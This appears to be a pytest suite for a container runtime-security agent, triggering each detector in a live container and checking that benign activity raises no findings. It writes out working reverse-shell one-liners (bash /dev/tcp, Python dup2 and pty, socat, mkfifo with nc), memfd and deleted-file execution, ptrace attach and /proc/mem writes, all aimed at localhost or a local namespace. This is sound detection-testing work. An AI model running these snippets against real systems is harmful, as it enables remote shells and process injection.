"""Every finding type of the first detectors, made to happen in a real container, and ordinary work that must stay silent."""

import json
import os
import subprocess
import time

import pytest

from harness import SOON, wait_for

NEW_BINARY = "Execution:Runtime/NewBinaryExecuted"
REVERSE_SHELL = "Execution:Runtime/ReverseShell"
FILELESS = "DefenseEvasion:Runtime/FilelessExecution"
ELEVATION = "PrivilegeEscalation:Runtime/ElevationToRoot"
PTRACE = "DefenseEvasion:Runtime/ProcessInjection.Ptrace"
PROC_MEM = "DefenseEvasion:Runtime/ProcessInjection.Proc"
C2 = "Backdoor:Runtime/C&CActivity.B"

LISTEN = "nc -l 127.0.0.1 4444 >/dev/null & sleep 0.3; "


def check_identity(finding, container):
    assert finding["container_id"] == container.id
    assert finding["task_id"] == container.task
    assert finding["mitre"].startswith("TA")
    assert finding["advice"]


def test_new_binary_names_its_writer(agent, container):
    container.sh("cp /bin/busybox /tmp/dropper && /tmp/dropper true; true")
    f = agent.wait_finding(NEW_BINARY, container_id=container.id)
    check_identity(f, container)
    assert f["exe"] == "/tmp/dropper" and f["severity"] == "medium"
    e = agent.evidence(f)[0]
    assert e["evidence"]["writer"]["exe"] == "/bin/cp"
    assert e["evidence"]["upper_layer"] is True
    assert [p["comm"] for p in e["lineage"]][:2] == ["dropper", "bash"]


def test_changed_image_binary_is_drift(agent, container):
    container.sh("cat /bin/true >> /bin/touch; touch /tmp/y")
    f = agent.wait_finding(NEW_BINARY, container_id=container.id)
    assert f["exe"] == "/bin/touch"
    e = agent.evidence(f)[0]["evidence"]
    assert e["writer"]["exe"] == "/bin/cat"  # the redirection is opened by the shell, the last write is cat's
    assert e["image_file_modified"] is True


TOOL = "Execution:Runtime/SuspiciousTool"


def test_a_copied_tool_is_known_under_another_name(agent, docker, container):
    container.sh("cp /bin/nc /tmp/kworker; /tmp/kworker -h; cat /bin/socat > /tmp/job; echo >> /tmp/job; chmod +x /tmp/job; /tmp/job -V; true")
    docker("cp", os.path.realpath("/usr/bin/xxd") if os.path.exists("/usr/bin/xxd") else "/usr/bin/openssl", f"{container.id}:/tmp/update")
    container.exec("/tmp/update", "-h")

    def found():
        rows = {f["exe"]: f for f in agent.findings(type=TOOL, rule="copied_tool", container_id=container.id)}
        return rows if len(rows) == 3 else None

    rows = wait_for(found)
    assert rows, [(f["rule"], f["exe"], f["description"]) for f in agent.findings(type=TOOL, container_id=container.id)]
    e = {exe: agent.evidence(f)[0]["evidence"] for exe, f in rows.items()}
    check_identity(rows["/tmp/kworker"], container)
    assert (e["/tmp/kworker"]["original"], e["/tmp/kworker"]["same"], e["/tmp/kworker"]["original_on"]) == ("/bin/nc", "content", "container")
    assert "cp /bin/nc /tmp/kworker" in e["/tmp/kworker"]["writer"]["cmdline"]
    assert (e["/tmp/job"]["original"], e["/tmp/job"]["same"]) == ("/bin/socat", "build id")
    assert e["/tmp/update"]["original_on"] == "host"


def test_copies_that_deceive_nobody_are_no_copied_tools(agent, container):
    container.sh("cp /usr/bin/python3 /tmp/python3.11; cp /bin/bash /tmp/sh; cp /bin/busybox /tmp/busybox; cp /bin/nc /bin/nc.new; mv /bin/nc.new /bin/nc;"
                 "cp /bin/ls /tmp/tool; /tmp/python3.11 -c 1; /tmp/sh -c :; /tmp/busybox true; nc -h; /tmp/tool; /bin/busybox true; true")
    assert wait_for(lambda: len([f for f in agent.findings(type=NEW_BINARY, container_id=container.id)]) == 5)
    time.sleep(1)
    assert not agent.findings(type=TOOL, rule="copied_tool", container_id=container.id)


def test_file_copied_in_from_the_host_is_drift(agent, docker, container):
    docker("cp", "/bin/busybox", f"{container.id}:/tmp/fromhost")
    container.exec("/tmp/fromhost", "true")
    f = agent.wait_finding(NEW_BINARY, container_id=container.id)
    assert f["exe"] == "/tmp/fromhost"


@pytest.mark.parametrize("name,script", [
    ("dev_tcp", LISTEN + "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 & sleep 1"),
    ("python_dup2", LISTEN + "python3 -c 'import socket,os,subprocess;s=socket.create_connection((\"127.0.0.1\",4444));"
                             "[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])' & sleep 1"),
    ("python_pty", LISTEN + "python3 -c 'import socket,os,pty;s=socket.create_connection((\"127.0.0.1\",4444));"
                            "[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn(\"/bin/sh\")' & sleep 1"),
    ("socat_pty", LISTEN + "socat EXEC:/bin/sh,pty,stderr,setsid,sigint,sane TCP:127.0.0.1:4444 & sleep 1"),
    ("mkfifo_nc", LISTEN + "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f & sleep 2"),
])
def test_reverse_shell(agent, container, name, script):
    container.sh(script)
    f = agent.wait_finding(REVERSE_SHELL, container_id=container.id)
    check_identity(f, container)
    e = agent.evidence(f)[0]["evidence"]
    assert e["form"] == {"dev_tcp": "socket", "python_dup2": "socket", "python_pty": "pty", "socat_pty": "pty", "mkfifo_nc": "fifo"}[name]
    assert e["socket"]["peer"] == "127.0.0.1:4444"
    assert f["severity"] == "high"


def test_reverse_shell_is_found_at_once(agent, container):
    act = ("import socket,subprocess,time;l=socket.create_server(('127.0.0.1',4445));s=socket.create_connection(('127.0.0.1',4445));"
           "open('/tmp/when','w').write(str(time.time_ns()));subprocess.run(['/bin/bash','-c','sleep 2'],stdin=s,stdout=s,stderr=s)")
    container.exec("python3", "-c", act, detach=True)
    agent.wait_finding(REVERSE_SHELL, container_id=container.id)
    seen = time.time_ns()
    assert seen - int(container.exec("cat", "/tmp/when")) < SOON * 1e9


def test_memfd_execution(agent, container):
    container.py("import os;f=os.memfd_create('payload');os.write(f,open('/bin/busybox','rb').read());os.execv(f'/proc/self/fd/{f}',['busybox','true'])")
    f = agent.wait_finding(FILELESS, container_id=container.id)
    check_identity(f, container)
    assert f["exe"].startswith("/memfd:payload")
    assert agent.evidence(f)[0]["evidence"]["form"] == "memfd"


def test_shared_memory_execution(agent, docker):
    c = docker.run(flags=["--tmpfs=/dev/shm:exec"])
    c.sh("cp /bin/busybox /dev/shm/x && /dev/shm/x true")
    f = agent.wait_finding(FILELESS, container_id=c.id)
    assert agent.evidence(f)[0]["evidence"]["form"] == "shm"
    c.remove()


def test_deleted_file_execution(agent, container):
    container.py("import os;d=open('/bin/busybox','rb').read();f=open('/tmp/gone','wb');f.write(d);f.close();os.chmod('/tmp/gone',0o755);"
                 "n=os.open('/tmp/gone',os.O_RDONLY);os.unlink('/tmp/gone');os.execv(f'/proc/self/fd/{n}',['busybox','true'])")
    f = agent.wait_finding(FILELESS, container_id=container.id)
    assert agent.evidence(f)[0]["evidence"]["form"] == "deleted"


def test_unusual_setuid_program(agent, container):
    container.exec("/usr/local/bin/rootme", "id", user="1000")
    f = agent.wait_finding(ELEVATION, container_id=container.id)
    check_identity(f, container)
    assert f["exe"] == "/usr/local/bin/rootme"
    assert agent.evidence(f)[0]["evidence"]["from_uid"] == "1000"


INJECT = """
import ctypes, os, subprocess, sys, time
child = subprocess.Popen(['sleep', '30'])
time.sleep(0.3)
if os.fork() == 0:
    os.execv('/usr/bin/python3', ['python3', '-c', sys.argv[1], str(child.pid)])
os.wait()
"""


def test_ptrace_attach_to_a_stranger(agent, container):
    attach = "import ctypes,sys,time;c=ctypes.CDLL(None);c.ptrace(16,int(sys.argv[1]),0,0);time.sleep(0.2)"
    container.exec("python3", "-c", INJECT, attach)
    f = agent.wait_finding(PTRACE, container_id=container.id)
    check_identity(f, container)
    assert agent.evidence(f)[0]["evidence"]["target"]["comm"] == "sleep"


def test_write_to_proc_mem(agent, container):
    write = ("import sys;p=sys.argv[1];a=int([l for l in open(f'/proc/{p}/maps') if 'rw-p' in l][0].split('-')[0],16);"
             "m=open(f'/proc/{p}/mem','r+b',0);m.seek(a);d=m.read(4);m.seek(a);m.write(d);import time;time.sleep(0.2)")
    container.exec("python3", "-c", INJECT, write)
    f = agent.wait_finding(PROC_MEM, container_id=container.id)
    check_identity(f, container)
    assert f["severity"] == "high"
    assert agent.evidence(f)[0]["evidence"]["target"]["comm"] == "sleep"


@pytest.fixture
def c2_host():
    """A network namespace that owns the listed address; the host reaches it over a veth, nothing leaves the machine."""
    run = lambda *a: subprocess.run(a, check=True, capture_output=True)
    ns, dev = "ecsguard-c2", "ecsg-c2"
    run("ip", "netns", "add", ns)
    run("ip", "link", "add", dev, "type", "veth", "peer", "name", "eth0", "netns", ns)
    run("ip", "addr", "add", "203.0.113.1/24", "dev", dev)
    run("ip", "link", "set", dev, "up")
    run("ip", "netns", "exec", ns, "ip", "addr", "add", "203.0.113.66/24", "dev", "eth0")
    run("ip", "netns", "exec", ns, "ip", "link", "set", "eth0", "up")
    run("ip", "netns", "exec", ns, "ip", "route", "add", "default", "via", "203.0.113.1")
    server = subprocess.Popen(["ip", "netns", "exec", ns, "nc", "-lk", "203.0.113.66", "443"], stdout=subprocess.DEVNULL)
    time.sleep(0.3)
    yield
    server.kill()
    server.wait()
    run("ip", "netns", "del", ns)


def test_flow_to_a_listed_address(agent, docker, c2_host):
    route = subprocess.run(["ip", "route", "get", "203.0.113.66"], capture_output=True, text=True).stdout
    assert "ecsg-c2" in route  # the packet stays here
    c = docker.run(flags=["--network=bridge"])
    wait_for(lambda: [r for r in agent.query("select * from containers where container_id = ?", c.id)], 5)
    c.py("import socket,time;s=socket.create_connection(('203.0.113.66',443));s.send(b'hello');time.sleep(1)")
    f = agent.wait_finding(C2, container_id=c.id)
    check_identity(f, c)
    e = agent.evidence(f)[0]["evidence"]
    assert e["remote"] == "203.0.113.66:443" and e["list"].startswith("c2")
    assert e["process_known"] is True and f["exe"] == "/usr/bin/python3"
    c.remove()


def test_ordinary_work_is_silent(agent, docker):
    before = {f["id"]: f["count"] for f in agent.findings()}
    c = docker.run("bash", "-c", "mkdir -p /tmp/work; for i in 1 2 3; do env true; ls / | head -1; id; done; exec sleep 600")
    c.sh("find / -xdev -name '*.py' | head -5 | tee /tmp/list | cat")
    c.exec("ls", user="1000")
    c.sh("sed -i s/root/root/ /etc/passwd; cat /etc/passwd | bash -c 'cat | head -1' | cat")
    c.sh("(sleep 0.1; echo hi) | sh -c 'read x; echo $x' | tee /tmp/out")
    subprocess.run(["script", "-qc", f"docker -H unix://{docker.socket} exec -it {c.id} bash -c 'ls; exit'", "/dev/null"], capture_output=True, timeout=30)
    c.py("import subprocess,socket;s=socket.socket(socket.AF_UNIX);subprocess.run(['sh','-c','id'],stdin=subprocess.PIPE)")
    docker("restart", "-t", "0", c.id)
    docker("exec", c.id, "true")
    time.sleep(2)
    # the host's own findings are of whatever else this machine does
    # a changed passwd and an operator's terminal are told, as low; nothing more
    new = [f for f in agent.findings(container_id=c.id) if before.get(f["id"]) != f["count"] and f["severity"] not in ("info", "low")]
    c.remove()
    assert not new, new


def test_no_event_was_lost(agent):
    for component, row in agent.health().items():
        counters = json.loads(row["counters"])
        assert not counters.get("lost") and not counters.get("dropped") and not counters.get("images_cut"), (component, counters)
